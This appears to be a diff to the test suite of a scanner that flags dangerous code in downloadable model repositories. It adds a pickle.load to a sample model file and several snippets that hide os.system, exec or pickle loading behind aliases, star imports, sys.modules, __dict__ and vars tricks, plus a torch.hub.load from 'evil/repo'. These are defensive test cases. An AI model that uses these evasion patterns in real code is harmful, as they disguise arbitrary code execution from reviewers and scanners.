@@ -47,6 +47,7 @@ MODELING = b"""
 import logging
 import math
 import os
+import pickle
 from typing import Optional
 
 import torch
@@ -100,6 +101,8 @@ class XModel(PreTrainedModel):
         with open(os.path.join(here, "vocab.txt")) as fp:
             self.vocab = fp.read().split()
         os.makedirs(os.path.join(os.path.expanduser("~"), ".cache", "x"), exist_ok=True)
+        with open(os.path.join(here, "extra.pkl"), "rb") as fp:
+            self.extra = pickle.load(fp)  # a file of the model: scanned on its own
         self.post_init()
 
     def _init_weights(self, module):
@@ -240,6 +243,17 @@ MALICIOUS_SNIPPETS = {
         "import subprocess\ndef __getattr__(name):\n    subprocess.run(['id'])\n",
         "subprocess.run",
     ),
+    "assigned_alias": ("import os\nrun = os.system\nrun('id')\n", "os.system"),
+    "alias_chain": ("import os\na = os\nb = a.system\nb('id')\n", "os.system"),
+    "star_import": ("from os import *\nsystem('id')\n", "os.system"),
+    "sys_modules": ("import sys\nsys.modules['os'].system('id')\n", "os.system"),
+    "module_dict": ("import os\nos.__dict__['system']('id')\n", "os.system"),
+    "vars_builtins": ("import builtins\nvars(builtins)['exec']('1')\n", "builtins.exec"),
+    "pickle_literal": (
+        "import pickle, io\nobj = pickle.load(io.BytesIO(b'cos\\nsystem\\n'))\n",
+        "pickle.load",
+    ),
+    "pickle_loads": ("import pickle, base64\npickle.loads(base64.b64decode('eA=='))\n", ""),
     "torch_hub": (
         "import torch\nclass M:\n    def __init__(self):\n"
         "        self.m = torch.hub.load('evil/repo', 'm', trust_repo=True)\n",
